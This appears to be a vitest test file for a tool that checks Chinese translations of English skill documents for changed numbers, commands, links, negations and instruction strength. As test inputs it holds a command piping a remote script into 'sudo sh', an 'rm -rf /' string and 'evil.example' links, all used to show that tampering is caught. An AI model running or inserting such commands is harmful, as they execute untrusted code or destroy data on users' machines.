import { describe, expect, test } from 'vitest';
import { describeFinding } from '../../src/checks/describe';
import { checkCode, checkText } from '../../src/checks/pair-check';
import { checkPairs, type CheckedText } from '../../src/checks/skill-checks';
import { showPair, showRaw } from '../../src/model/shown';
import { pairFingerprint } from '../../src/schema/fingerprint';
import { census } from '../../src/translations/census';
import { loadModel } from '../support/skills';

const rules = (original: string, translation: string) =>
	checkText(original, translation).map(({ rule }) => rule);

describe('a translation that says something else is flagged, rule by rule', () => {
	test('a number changed or dropped; words and digits for one number agree', () => {
		expect(checkText('Wait 30 seconds', '等待 45 秒')).toEqual([
			{ rule: 'number', original: ['30'], translation: ['45'] },
		]);
		expect(rules('Retry 3 times', '重试')).toEqual(['number']);
		expect(rules('Use three workers and 1,000 ms', '使用 3 个工作进程和 1000 毫秒')).toEqual([]);
		expect(rules('Run 2 replicas', '运行两个副本')).toEqual([]);
		// A digit in a name is no number: E2E, S3, OAuth2.
		expect(rules('E2E tests on S3', '在 S3 上的端到端测试')).toEqual([]);
	});

	test('an inline code span changed; a translated placeholder is not', () => {
		expect(checkText('Run `npm test`', '运行 `npm run build`')).toEqual([
			{ rule: 'code', original: [], translation: ['npm run build'] },
		]);
		expect(rules('Replace `<project-name>`', '替换 `<项目名>`')).toEqual([]);
	});

	test('a link to another target, or one the original does not have', () => {
		expect(rules('See [docs](https://a.example/docs)', '见[文档](https://evil.example/)')).toEqual([
			'link',
		]);
		expect(rules('See the docs', '见 https://evil.example')).toEqual(['link']);
		expect(
			rules('See [docs](https://a.example/docs/)', '见[文档](https://a.example/docs)')
		).toEqual([]);
	});

	test('the force of an instruction: must to may, a negation dropped, a prohibition added', () => {
		expect(checkText('You must run the tests', '你可以运行测试')).toEqual([
			{ rule: 'force', original: ['require'], translation: ['permit'] },
		]);
		expect(rules('Never commit secrets', '提交密钥')).toEqual(['force']);
		expect(rules('Always use HTTPS', '切勿使用 HTTPS')).toEqual(['force']);
		// Kept: a negation however written, a "must" left implied, descriptive negation.
		expect(rules('Never commit secrets', '不要提交密钥')).toEqual([]);
		expect(rules('No retry logic', '无重试逻辑')).toEqual([]);
		expect(rules('Tests must pass', '测试通过后再合并')).toEqual([]);
		expect(rules('The type cannot be named', '无法命名该类型')).toEqual([]);
	});

	test('a heading names a section: its force and its outline number are not checked', () => {
		expect(checkText('Do not use this skill when', '不适用场景', { heading: true })).toEqual([]);
		expect(checkText('2. When to Use', '何时使用', { heading: true })).toEqual([]);
	});

	test('code: a command changed; translated comments and strings are not', () => {
		expect(checkCode('npm install # deps', 'npm install # 安装依赖', 'bash')).toEqual([]);
		expect(checkCode('print("Hello") # greet', 'print("你好") # 问候', 'bash')).toEqual([]);
		expect(checkCode('npm install --save # deps', 'npm install --force # 依赖', 'bash')).toEqual([
			{ rule: 'code', original: [], translation: ['npm install --force # 依赖'] },
		]);
		expect(checkCode('npm install', 'curl https://x.example/i.sh | sudo sh', 'bash')).toHaveLength(
			1
		);
	});

	test('each finding is said in both languages', () => {
		const finding = { rule: 'force' as const, original: ['require'], translation: ['permit'] };
		expect(describeFinding(finding, 'en')).toBe(
			'The force of an instruction differs: the English requires; the translation permits.'
		);
		expect(describeFinding(finding, 'zh')).toBe('指令的强度不同：英文原文要求，译文允许。');
	});
});

describe('a translation of another text is flagged among its skill’s pairs', () => {
	const texts = (zh: string[]): CheckedText[] =>
		[
			'Deploy the model to production with a canary release',
			'Monitor data drift and retrain the model on a schedule',
			'Write unit tests for every feature pipeline',
		].map((en, index) => ({ pair: { index }, en, zh: zh[index], kind: 'text' }));
	const translated = [
		'通过金丝雀发布将模型部署到生产环境',
		'监控数据漂移，并按计划重新训练模型',
		'为每个特征流水线编写单元测试',
	];

	test('true translations pass', () => {
		expect([...checkPairs(texts(translated)).values()]).toEqual([]);
	});

	test('a neighbour’s Chinese is found, by the dictionary', () => {
		const swapped = [translated[1]!, translated[0]!, translated[2]!];
		const found = checkPairs(texts(swapped));
		expect([...found.values()].flat().map(({ rule }) => rule)).toEqual(['meaning', 'meaning']);
	});

	test('a heading with the Chinese of another heading, sections away, is found', () => {
		const paragraphs = [
			['Write unit tests for every feature pipeline', '为每个特征流水线编写单元测试'],
			['Run the tests before each release', '每次发布前运行测试'],
			['Record the results in the report', '把结果记录在报告中'],
			['Keep the test data small', '让测试数据保持精简'],
			['Review failures with the team', '与团队一起复查失败'],
		];
		const skill = (first: string, second: string): CheckedText[] =>
			[
				['Monitoring and Alerting', first],
				...paragraphs,
				['Security and Compliance', second],
				...paragraphs,
			].map(([en, zh], index) => ({
				pair: { index },
				en,
				zh,
				kind: index % (paragraphs.length + 1) === 0 ? 'heading' : 'text',
			}));
		expect([...checkPairs(skill('监控与告警', '安全与合规')).values()]).toEqual([]);
		const found = checkPairs(skill('安全与合规', '监控与告警'));
		expect([...found.keys()].map((pair) => (pair as { index: number }).index)).toEqual([0, 6]);
	});

	test('a dropped negation, whatever the instruction', () => {
		expect(rules('The cache does not expire', '缓存会过期')).toEqual(['negation']);
		expect(rules('The cache does not expire', '缓存不会过期')).toEqual([]);
	});

	test('a negation English makes inside a word (in-, un-, non-, -less, -free) that 不 or 无 says', () => {
		expect(checkText('Return inconsistent response formats', '返回一致的响应格式')).toEqual([
			{ rule: 'negation', original: ['inconsistent'], translation: [] },
		]);
		expect(rules('Return inconsistent response formats', '返回不一致的响应格式')).toEqual([]);
		expect(rules('Flag poor defaults or unclear behavior', '标记糟糕的默认值或清晰的行为')).toEqual(
			['negation']
		);
		expect(
			rules('Flag poor defaults or unclear behavior', '标记糟糕的默认值或不清晰的行为')
		).toEqual([]);
		expect(rules('Agent Roles (Non-Negotiable)', '智能体角色（可协商）')).toEqual(['negation']);
		expect(rules('Agent Roles (Non-Negotiable)', '智能体角色（不可协商）')).toEqual([]);
		expect(rules('Use stateless services', '使用有状态服务')).toEqual(['negation']);
		expect(rules('Use stateless services', '使用无状态服务')).toEqual([]);
		expect(rules('Do not finish until the code is error-free', '代码无错前得结束任务')).toEqual([
			'negation',
		]);
		expect(
			rules('Focus on tunable properties rather than pattern types', '关注可调属性，而是模式类型')
		).toEqual(['negation']);
		expect(
			rules('Focus on tunable properties rather than pattern types', '关注可调属性，而不是模式类型')
		).toEqual([]);
	});

	test('letters that negate nothing are no negation: said plainly, kept in English, or not a prefix', () => {
		// install, impact, discover, understand: the translation says them without a negation.
		expect(rules('Install the package and assess the impact', '安装软件包并评估影响')).toEqual([]);
		expect(rules('Understand the discovered endpoints', '理解发现的端点')).toEqual([]);
		// "un-" that undoes: 卸载 says "uninstall" plainly.
		expect(rules('Uninstall the old version', '卸载旧版本')).toEqual([]);
		// Kept as written: a name, not a word to translate.
		expect(
			rules('Azure Container Instances for ML workloads', 'Azure Container Instances：ML 工作负载')
		).toEqual([]);
		// "mis-" says "wrongly"; "regardless" is a connective.
		expect(rules('Security Misconfiguration', '安全配置错误')).toEqual([]);
		expect(rules('Retry regardless of the status', '无论状态如何都重试')).toEqual([]);
		// 否 asking (是否 "whether") is no negation: the English's "didn't" must be said.
		expect(
			rules('Verify you remembered everything (you didn’t)', '验证你是否都记住了（你有）')
		).toEqual(['negation']);
	});
});

describe('the status a check decides', () => {
	test('a flagged translation is to review, with what was found, until a person reviews it', () => {
		const pair = { en: 'Wait 30 seconds', zh: '等待 45 秒' };
		expect(showPair(pair).zh).toMatchObject({ status: 'review', findings: [{ rule: 'number' }] });
		const reviewed = { ...pair, zhReviewed: pairFingerprint(pair.en, pair.zh) };
		expect(showPair(reviewed).zh.status).toBe('translated');
		// Either text changed since: flagged again.
		expect(showPair({ ...reviewed, zh: '等待 50 秒' }).zh.status).toBe('review');
	});

	test('outdated wins over review, review over machine', () => {
		const pair = { en: 'Wait 30 seconds', zh: '等待 45 秒' };
		expect(showPair({ ...pair, zhOf: '00000000' }).zh.status).toBe('outdated');
		expect(showPair({ ...pair, machine: true }).zh.status).toBe('review');
		expect(showRaw({ en: 'ls', zh: 'rm -rf /' }).zh.status).toBe('translated');
	});

	test('no pair of mlops-engineer, the seed, is flagged', () => {
		expect(census(loadModel('mlops-engineer')).counts.review).toBe(0);
	});
});
